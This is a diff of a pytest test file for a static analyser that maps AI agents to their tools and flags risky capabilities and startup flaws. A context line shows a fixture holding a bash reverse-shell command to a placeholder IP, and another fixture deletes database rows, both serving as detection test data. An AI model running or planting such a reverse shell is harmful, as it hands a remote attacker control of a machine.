@@ -60,7 +60,7 @@ AGENT = (
 )
 
 
-def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[str, str]]:
+def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[str, str], dict[str, str]]:
     files = [Document(Item("repo", path, len(text), content=text.encode())) for path, text in texts.items()]
     seen, edges, _ = link([examine(each, units("detectors").values()) for each in files])
     names: dict[str, set[str]] = {}
@@ -68,9 +68,15 @@ def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[
         for key in each.keys:
             names.setdefault(str(key), set()).add(str(each.name))
     flaws = {str(each.name): str(each.attributes["startup_flaw"]) for each in seen if "startup_flaw" in each.attributes}
+    able = {str(each.name): str(each.attributes["capabilities"]) for each in seen if "capabilities" in each.attributes}
     ends = ((str(edge.source), str(edge.target)) for edge in edges)
     agents = [str(each.name) for each in seen if each.location.type == "agent"]
-    return {pair for one, other in ends for pair in product(names.get(one, ()), names.get(other, ()))}, agents, flaws
+    return (
+        {pair for one, other in ends for pair in product(names.get(one, ()), names.get(other, ()))},
+        agents,
+        flaws,
+        able,
+    )
 
 
 @pytest.mark.parametrize(
@@ -84,12 +90,12 @@ def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[
     ],
 )  # fmt: skip
 def test_a_server_has_the_tools_that_it_lists_from_other_files(texts: dict[str, str]) -> None:
-    joined, _, _ = _read(texts)
+    joined, _, _, _ = _read(texts)
     assert ("desk", "read_page") in joined
 
 
 def test_a_server_has_no_tools_that_it_does_not_list() -> None:
-    joined, _, _ = _read(
+    joined, _, _, _ = _read(
         {"src/main.ts": LISTING, "src/tools/index.ts": "export const tools = [];\n", "src/tools/pages.ts": PAGES}
     )
     assert ("desk", "read_page") not in joined
@@ -97,13 +103,13 @@ def test_a_server_has_no_tools_that_it_does_not_list() -> None:
 
 def test_an_agent_that_a_setting_names_is_the_only_one_that_templates_declare() -> None:
     one = AGENT % ("clerk", "clerk")
-    joined, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": one})
+    joined, _, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": one})
     assert {("ask_clerk", "CLERK_ID"), ("CLERK_ID", "amazon.nova-pro-v1:0")} <= joined  # by the key that both have
     both = one + AGENT % ("cook", "cook")
-    joined, agents, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": both})
+    joined, agents, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": both})
     assert ("ask_clerk", "CLERK_ID") not in joined
     assert "CLERK_ID" not in agents
-    joined, _, _ = _read({"clerk.py": CLERK_PY, "infra/main.tf": one})
+    joined, _, _, _ = _read({"clerk.py": CLERK_PY, "infra/main.tf": one})
     assert ("CLERK_ID", "amazon.nova-pro-v1:0") in joined
 
 
@@ -141,7 +147,7 @@ BOOT = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
 def test_scripts_that_code_reads_beside_itself_are_those_that_a_notebook_starts_with(
     here: str, content: str, path: str
 ) -> None:
-    _, _, flaws = _read({"cdk/lab/stack.py": LAB.format(here=here, content=content), path: BOOT})
+    _, _, flaws, _ = _read({"cdk/lab/stack.py": LAB.format(here=here, content=content), path: BOOT})
     assert "lab" in flaws
 
 
@@ -152,7 +158,75 @@ def test_an_action_group_that_an_agent_is_given_joins_it_to_no_knowledge_base() 
         'const agent = new bedrock.Agent(this, "Clerk", { name: "clerk", instruction: "You help.", foundationModel: bedrock.BedrockFoundationModel.AMAZON_NOVA_PRO_V1 });\n'
         'agent.addActionGroup(new bedrock.AgentActionGroup({ name: "claims", description: "Closes claims", enabled: true }));\n'
     )
-    joined, _, _ = _read({"lib/stack.ts": stack})
+    joined, _, _, _ = _read({"lib/stack.ts": stack})
     assert ("clerk", "Tips") not in joined
-    joined, _, _ = _read({"lib/stack.ts": f"{stack}agent.addKnowledgeBase(kb);\n"})
+    joined, _, _, _ = _read({"lib/stack.ts": f"{stack}agent.addKnowledgeBase(kb);\n"})
     assert ("clerk", "Tips") in joined
+
+
+SCHEMAS = 'TOOLS = [\n    {"name": "wipe_order", "description": "Wipes", "input_schema": {"type": "object", "properties": {}}},\n]\n'
+LOOP = """import anthropic
+from desk.run import run_tool
+from desk.tools import TOOLS
+client = anthropic.Anthropic()
+def respond(messages):
+    while True:
+        answer = client.messages.create(model="claude-sonnet-4-20250514", max_tokens=900, tools=TOOLS, messages=messages)
+        if answer.stop_reason != "tool_use":
+            return answer
+        for block in answer.content:
+            if block.type == "tool_use":
+                messages.append(run_tool(block.name, block.input))
+"""
+WIPE = 'import psycopg\ndef wipe(id: int):\n    with psycopg.connect("") as db:\n        db.execute("DELETE FROM orders WHERE id = %s", (id,))\n'
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        'def run_tool(name, given):\n    if name == "wipe_order":\n        return wipe(**given)\n',
+        'def run_tool(name, given):\n    match name:\n        case "wipe_order":\n            return wipe(given["id"])\n',
+        'HANDLERS = {"wipe_order": wipe}\ndef run_tool(name, given):\n    return HANDLERS.get(name)(**given)\n',
+    ],
+)
+def test_an_agent_has_the_tools_that_another_file_lists_and_a_third_runs(run: str) -> None:
+    files = {"desk/tools.py": SCHEMAS, "desk/loop.py": LOOP, "desk/run.py": f"{WIPE}{run}"}
+    joined, _, _, able = _read(files)
+    assert ("respond", "wipe_order") in joined
+    assert "destroys" in able["wipe_order"]
+
+
+REGISTRY = "class Registry:\n    def tool(self, about, schema): ...\n    @property\n    def schemas(self): ...\nregistry = Registry()\n"
+REGISTERED = 'from desk.registry import registry\n@registry.tool("Find an order", {"type": "object"})\ndef find_order(number: str):\n    return number\n'
+
+
+@pytest.mark.parametrize(
+    ("offered", "imports"),
+    [
+        ("registry.schemas", "from desk.registry import registry"),
+        ("registry.list()", "from desk import registry"),
+        ("[each.schema for each in registry.tools]", "from desk.registry import registry"),
+    ],
+)
+def test_an_agent_has_the_tools_of_the_registry_that_it_offers(offered: str, imports: str) -> None:
+    agent = LOOP.replace("from desk.tools import TOOLS", imports).replace("tools=TOOLS", f"tools={offered}")
+    files = {"desk/registry.py": REGISTRY, "desk/tools.py": REGISTERED, "desk/loop.py": agent}
+    files["desk/__init__.py"] = "from desk.registry import registry\n"
+    assert ("respond", "find_order") in _read(files)[0]
+    files["desk/registry.py"], files["desk/other.py"] = "", REGISTRY
+    files["desk/tools.py"] = REGISTERED.replace("desk.registry", "desk.other")
+    assert ("respond", "find_order") not in _read(files)[0]
+
+
+@pytest.mark.parametrize(
+    "registers",
+    [
+        "from desk import pages\npages.register(mcp)\n",
+        "from desk.pages import register as add_pages\nadd_pages(mcp)\n",
+        "from desk import pages\nfor module in (pages,):\n    module.register(mcp)\n",
+    ],
+)
+def test_a_server_of_python_has_the_tools_that_it_is_handed_on_for(registers: str) -> None:
+    server = f'from mcp.server.fastmcp import FastMCP\nmcp = FastMCP("desk")\n{registers}'
+    pages = 'import httpx\ndef register(server):\n    @server.tool()\n    def read_page(url: str) -> str:\n        """Read a page."""\n        return httpx.get(url).text\n'
+    assert ("desk", "read_page") in _read({"desk/main.py": server, "desk/pages.py": pages})[0]
